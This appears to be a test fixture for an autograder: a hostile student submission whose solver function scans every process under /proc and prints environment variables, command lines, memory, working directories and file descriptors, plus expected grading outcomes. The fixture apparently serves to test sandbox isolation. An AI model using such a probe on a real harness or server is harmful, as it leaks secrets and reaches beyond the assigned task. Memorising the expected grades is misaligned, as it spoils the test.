# ruff: noqa: UP031, SIM105, E501 -- written as a hostile student would write it
"""Attack: Reads the harness's memory, fds, environment and root through /proc.

expect: derive-dz-db=2 iterate-by-hand=2 two-variable-solver=0
"""

import os

DZ_DB = "2*x + 3*y"

HAND_ITERATIONS = [
    {"factor_b": 60.714286, "delta_b": 0.003585, "b": 3.805938, "z": 150.000077,
     "delta_z": 0.000077},
    {"factor_b": 60.671261, "delta_b": 0.000001, "b": 3.805937, "z": 150.0, "delta_z": 0.0},
]


def double_variable_new(w, b, t):
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        for leaf in ("environ", "cmdline", "mem", "root/work", "cwd", "fd"):
            path = "/proc/%s/%s" % (pid, leaf)
            try:
                if os.path.isdir(path):
                    print("PROC " + path + " " + repr(os.listdir(path)))
                else:
                    with open(path, "rb") as handle:
                        print("PROC " + path + " " + repr(handle.read(200)))
            except OSError:
                pass
